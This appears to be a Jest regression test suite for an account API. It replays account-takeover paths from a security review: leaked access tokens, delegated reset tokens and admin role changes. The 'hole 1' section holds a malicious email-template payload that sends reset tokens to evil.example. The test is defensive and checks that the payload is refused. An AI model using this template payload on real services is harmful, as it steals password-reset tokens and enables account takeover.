import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { DataSource } from 'typeorm';
import { ALL_SCOPES } from '../src/auth/scopes.js';
import { api, createTestApp, type TestApp } from './helpers/app.js';
import { bearer, createPat, createUser, login, signUp, STRONG_PASSWORD, type SignedUp } from './helpers/factories.js';
import { mailbox } from './helpers/mailbox.js';

const RESET = 'user.reset-password-request';
const CHANGED = 'user.password-changed';
const NEW_PASSWORD = 'copper meadow falcon ribbon 9153';

/**
 * The takeover paths an outside review found (issue 10, holes 1, 2 and 7), each replayed as the
 * attacker did it: a leaked PAT of any scope must not be able to reach an admin.
 */
describe('changes reserved to an admin session', () => {
  let t: TestApp;
  let a: SignedUp;
  /** Every scope there is: what the worst leak hands an attacker. */
  let allPat: string;
  let userSession: string;
  const templates = () => `/v3/accounts/${a.account.id}/email-templates`;
  const adminA = () => bearer(a.accessToken);
  const savedTemplates = async () =>
    (await api(t).get(templates()).set(adminA())).body.filter((x: { isDefault: boolean }) => !x.isDefault);

  beforeAll(async () => {
    t = await createTestApp({ OUTBOX_WORKER: 'off' });
    a = await signUp(t, { name: 'Acme Widgets' });
    allPat = (await createPat(t, a.accessToken, [...ALL_SCOPES])).token;
    const u = await createUser(t, a.accessToken, { role: 'user' });
    userSession = (await login(t, a.account.alias, u.email)).accessToken;
  }, 120_000);
  afterAll(async () => t?.close());

  describe('hole 1: email templates', () => {
    const evil = {
      subject: 'Reset your password',
      htmlBody:
        '<a href="https://evil.example/r?u={{user.id}}&t={{token}}">Reset</a>' +
        '<img src="https://evil.example/r?u={{user.id}}&t={{token}}" width="1" height="1">',
      textBody: 'https://evil.example/r?u={{user.id}}&t={{token}}',
    };

    it('refuses a PAT with every scope rewriting the reset email, and the admin gets the real link', async () => {
      const res = await api(t).put(`${templates()}/${RESET}`).set(bearer(allPat)).send(evil);
      expect(res.status).toBe(403);
      expect(res.body.code).toBe('FORBIDDEN');
      expect(await savedTemplates()).toEqual([]);

      await mailbox(t);
      const req = await api(t)
        .post('/v3/accounts/reset-password-request')
        .send({ accountAlias: a.account.alias, email: a.user.email });
      expect(req.status).toBe(202);
      const mails = (await mailbox(t)).filter((m) => m.to === a.user.email);
      expect(mails.length).toBeGreaterThanOrEqual(1);
      for (const m of mails) expect(m.text).not.toContain('evil.example');
    });

    it('refuses every field, event and locale to a PAT and to a user session, and changes nothing', async () => {
      const bodies: [string, Record<string, unknown>][] = [
        [CHANGED, { subject: 'Your newsletter', textBody: 'Nothing to see here.' }],
        [CHANGED, { locale: 'de', subject: 'x', textBody: 'y' }],
        [RESET, { subject: 'Reset', textBody: '{{link}}' }],
        [RESET, { locale: 'fr', subject: 'Reset', htmlBody: '<p>{{link}}</p>', fromName: 'Support' }],
      ];
      for (const caller of [allPat, userSession]) {
        for (const [event, body] of bodies) {
          const res = await api(t).put(`${templates()}/${event}`).set(bearer(caller)).send(body);
          expect(res.status).toBe(403);
          expect(res.body.code).toBe('FORBIDDEN');
        }
      }
      expect(await savedTemplates()).toEqual([]);
    });

    it('refuses a PAT deleting a template, even one without a link', async () => {
      const put = await api(t)
        .put(`${templates()}/${CHANGED}`)
        .set(adminA())
        .send({ subject: 'Your password was changed', textBody: 'If this was not you, tell us.' });
      expect(put.status).toBe(200);
      for (const caller of [allPat, userSession]) {
        const del = await api(t).delete(`${templates()}/${CHANGED}`).set(bearer(caller));
        expect(del.status).toBe(403);
        expect(del.body.code).toBe('FORBIDDEN');
      }
      expect((await savedTemplates()).map((x: { subject: string }) => x.subject)).toEqual([
        'Your password was changed',
      ]);
      expect((await api(t).delete(`${templates()}/${CHANGED}`).set(adminA())).status).toBe(204);
    });

    it('leaves reading and previewing to account:read', async () => {
      const reader = (await createPat(t, a.accessToken, ['account:read'])).token;
      expect((await api(t).get(templates()).set(bearer(reader))).status).toBe(200);
      const preview = await api(t).post(`${templates()}/${RESET}/preview`).set(bearer(reader)).send(evil);
      expect(preview.status).toBe(200);
    });

    it('answers 401 before 403 for a bad token', async () => {
      const res = await api(t).put(`${templates()}/${RESET}`).set(bearer('lk_pat_nope')).send(evil);
      expect(res.status).toBe(401);
    });
  });

  describe('hole 1: account settings', () => {
    const account = () => `/v3/accounts/${a.account.id}`;
    const settings = {
      resetTokenTtlSeconds: 3600,
      resetTokenMaxTtlSeconds: 86400,
      allowedRedirectHosts: [],
      minPasswordLength: 15,
      notifyOnPasswordChange: true,
    };

    it('refuses a PAT any setting, even with the current value, alone or beside name', async () => {
      const writer = (await createPat(t, a.accessToken, ['account:write'])).token;
      for (const caller of [writer, allPat]) {
        for (const [key, value] of Object.entries(settings)) {
          for (const body of [{ [key]: value }, { name: 'Acme', [key]: value }]) {
            const res = await api(t).patch(account()).set(bearer(caller)).send(body);
            expect(res.status).toBe(403);
            expect(res.body.code).toBe('FORBIDDEN');
          }
        }
        const longer = await api(t).patch(account()).set(bearer(caller)).send({ resetTokenMaxTtlSeconds: 604800 });
        expect(longer.status).toBe(403);
      }
      const after = await api(t).get(account()).set(adminA());
      expect(after.body).toMatchObject({ name: 'Acme Widgets', ...settings });
    }, 30_000);

    it('refuses a user session too', async () => {
      const res = await api(t).patch(account()).set(bearer(userSession)).send({ notifyOnPasswordChange: false });
      expect(res.status).toBe(403);
      expect(res.body.code).toBe('FORBIDDEN');
    });

    it('lets a PAT with account:write change the name, and an admin session the settings', async () => {
      const writer = (await createPat(t, a.accessToken, ['account:write'])).token;
      const named = await api(t).patch(account()).set(bearer(writer)).send({ name: 'Acme Widgets Ltd' });
      expect(named.status).toBe(200);
      expect(named.body.name).toBe('Acme Widgets Ltd');
      const set = await api(t).patch(account()).set(adminA()).send({ resetTokenMaxTtlSeconds: 7200 });
      expect(set.status).toBe(200);
      expect(set.body.resetTokenMaxTtlSeconds).toBe(7200);
      await api(t).patch(account()).set(adminA()).send({ name: 'Acme Widgets', resetTokenMaxTtlSeconds: 86400 });
    });
  });

  describe('hole 1: admins', () => {
    it('refuses a PAT with every scope creating, promoting, re-addressing, demoting or deleting an admin', async () => {
      const admin2 = await createUser(t, a.accessToken, { role: 'admin' });
      const user = await createUser(t, a.accessToken, { role: 'user' });
      const attempts = [
        api(t)
          .post('/v3/users')
          .set(bearer(allPat))
          .send({ email: 'x@evil.test', firstName: 'X', lastName: 'Y', role: 'admin' }),
        api(t).patch(`/v3/users/${user.id}`).set(bearer(allPat)).send({ role: 'admin' }),
        api(t).patch(`/v3/users/${admin2.id}`).set(bearer(allPat)).send({ email: 'inbox@evil.test' }),
        api(t).patch(`/v3/users/${admin2.id}`).set(bearer(allPat)).send({ role: 'user' }),
        api(t).delete(`/v3/users/${admin2.id}`).set(bearer(allPat)),
      ];
      for (const res of await Promise.all(attempts)) {
        expect(res.status).toBe(403);
        expect(res.body.code).toBe('FORBIDDEN');
      }
      const after = await api(t).get(`/v3/users/${admin2.id}`).set(adminA());
      expect(after.body).toMatchObject({ role: 'admin', email: admin2.email });
      expect((await api(t).get(`/v3/users/${user.id}`).set(adminA())).body.role).toBe('user');
    }, 30_000);
  });

  describe('hole 2: a delegated token and a role change', () => {
    const issue = async (userId: string, pat: string) => {
      const res = await api(t).post(`/v3/users/${userId}/reset-password-token`).set(bearer(pat)).send({});
      expect(res.status).toBe(201);
      return res.body.resetPasswordToken as string;
    };
    const reset = (userId: string, token: string) =>
      api(t).post(`/v3/users/${userId}/reset-password`).send({ token, newPassword: NEW_PASSWORD });
    const setRole = async (userId: string, role: string) => {
      const res = await api(t).patch(`/v3/users/${userId}`).set(adminA()).send({ role });
      expect(res.status).toBe(200);
    };
    const expectOldPassword = async (email: string) => {
      const ok = await api(t)
        .post('/v3/accounts/login')
        .send({ accountAlias: a.account.alias, email, password: STRONG_PASSWORD });
      expect(ok.status).toBe(200);
    };

    it('kills a token issued before a promotion: reset-password is RESET_TOKEN_INVALID, the password stays', async () => {
      const portal = (await createPat(t, a.accessToken, ['user:resetPasswordToken'])).token;
      const victim = await createUser(t, a.accessToken, { role: 'user' });
      const token = await issue(victim.id, portal);
      await setRole(victim.id, 'admin');

      const listed = await api(t).get(`/v3/users/${victim.id}/reset-password-tokens`).set(adminA());
      expect(listed.body).toEqual([]);
      const res = await reset(victim.id, token);
      expect(res.status).toBe(400);
      expect(res.body.code).toBe('RESET_TOKEN_INVALID');
      await expectOldPassword(victim.email);
    }, 30_000);

    it('keeps the token dead after a demotion back to user', async () => {
      const portal = (await createPat(t, a.accessToken, ['user:resetPasswordToken'])).token;
      const victim = await createUser(t, a.accessToken, { role: 'user' });
      const token = await issue(victim.id, portal);
      await setRole(victim.id, 'admin');
      await setRole(victim.id, 'user');
      const res = await reset(victim.id, token);
      expect(res.status).toBe(400);
      expect(res.body.code).toBe('RESET_TOKEN_INVALID');
      await expectOldPassword(victim.email);
    }, 30_000);

    it('refuses a delegated token whenever its user is not a `user`, even one the revocation missed', async () => {
      const portal = (await createPat(t, a.accessToken, ['user:resetPasswordToken'])).token;
      const victim = await createUser(t, a.accessToken, { role: 'user' });
      const token = await issue(victim.id, portal);
      // The role changed behind the service's back (a restore, a manual fix): the statement that
      // consumes the token still sees it.
      await t.app.get(DataSource).query(`UPDATE users SET role = 'admin' WHERE id = $1`, [victim.id]);
      const res = await reset(victim.id, token);
      expect(res.status).toBe(400);
      expect(res.body.code).toBe('RESET_TOKEN_INVALID');
      await expectOldPassword(victim.email);
    }, 30_000);

    it('serialises a promotion racing a reset with a delegated token: never a 5xx, never an admin reset by it', async () => {
      const portal = (await createPat(t, a.accessToken, ['user:resetPasswordToken'])).token;
      for (let i = 0; i < 8; i++) {
        const victim = await createUser(t, a.accessToken, { role: 'user' });
        const token = await issue(victim.id, portal);
        const [promoted, res] = await Promise.all([
          api(t).patch(`/v3/users/${victim.id}`).set(adminA()).send({ role: 'admin' }),
          reset(victim.id, token),
        ]);
        expect(promoted.status).toBe(200);
        expect([204, 400]).toContain(res.status);
        // Either the reset came first (the user was a `user` then) or the token died with the role.
        const events = await api(t).get(`/v3/event-logs?userId=${victim.id}&limit=100`).set(adminA());
        const order = events.body
          .map((e: { action: string }) => e.action)
          .filter((x: string) => x === 'user.passwordReset' || x === 'user.updated')
          .reverse();
        expect(order).toEqual(res.status === 204 ? ['user.passwordReset', 'user.updated'] : ['user.updated']);
      }
    }, 60_000);

    it("still lets a token the admin requested by email reset the admin's password", async () => {
      const admin2 = await createUser(t, a.accessToken, { role: 'admin' });
      await mailbox(t);
      const req = await api(t)
        .post('/v3/accounts/reset-password-request')
        .send({ accountAlias: a.account.alias, email: admin2.email });
      expect(req.status).toBe(202);
      const mail = (await mailbox(t)).find((m) => m.to === admin2.email);
      const token = /#token=(lk_rst_[0-9A-Za-z]+)/.exec(mail!.text)![1];
      const res = await reset(admin2.id, token);
      expect(res.status).toBe(204);
    }, 30_000);

    it("lets an admin session revoke an admin's tokens; a PAT gets 403", async () => {
      const admin2 = await createUser(t, a.accessToken, { role: 'admin' });
      await api(t)
        .post('/v3/accounts/reset-password-request')
        .send({ accountAlias: a.account.alias, email: admin2.email });
      await mailbox(t); // the request is fulfilled off the request path, through the outbox
      const path = `/v3/users/${admin2.id}/reset-password-tokens`;
      expect((await api(t).get(path).set(adminA())).body).toHaveLength(1);
      const byPat = await api(t).delete(path).set(bearer(allPat));
      expect(byPat.status).toBe(403);
      expect(byPat.body.code).toBe('FORBIDDEN');
      expect((await api(t).get(path).set(adminA())).body).toHaveLength(1);
      const bySession = await api(t).delete(path).set(adminA());
      expect(bySession.status).toBe(204);
      expect((await api(t).get(path).set(adminA())).body).toEqual([]);
    }, 30_000);
  });

  describe('hole 7', () => {
    it('user.loginFailed keeps nothing of an unknown email, and names the user of a known one', async () => {
      const typed = 'hunter2-my-Password!';
      const unknown = await api(t)
        .post('/v3/accounts/login')
        .send({ accountAlias: a.account.alias, email: typed, password: 'whatever it was' });
      expect(unknown.status).toBe(401);
      const wrong = await api(t)
        .post('/v3/accounts/login')
        .send({ accountAlias: a.account.alias, email: a.user.email, password: 'not the password' });
      expect(wrong.status).toBe(401);
      // Written off the request path: wait for both.
      let events = await api(t).get('/v3/event-logs?action=user.loginFailed').set(adminA());
      for (let i = 0; i < 100 && events.body.length < 2; i++) {
        await new Promise((r) => setTimeout(r, 50));
        events = await api(t).get('/v3/event-logs?action=user.loginFailed').set(adminA());
      }
      expect(events.status).toBe(200);
      expect(events.body).toHaveLength(2);
      const [known, other] = events.body;
      expect(known.targetUserId).toBe(a.user.id);
      expect(other.targetUserId).toBeNull();
      expect(JSON.stringify(events.body)).not.toContain('hunter2');
      expect(JSON.stringify(events.body)).not.toContain(a.user.email);
    });

    it('Swagger UI does not persist the bearer token in the browser', async () => {
      const init = await api(t).get('/docs/swagger-ui-init.js');
      expect(init.status).toBe(200);
      expect(init.text).toMatch(/"persistAuthorization":\s*false/);
    });
  });
});
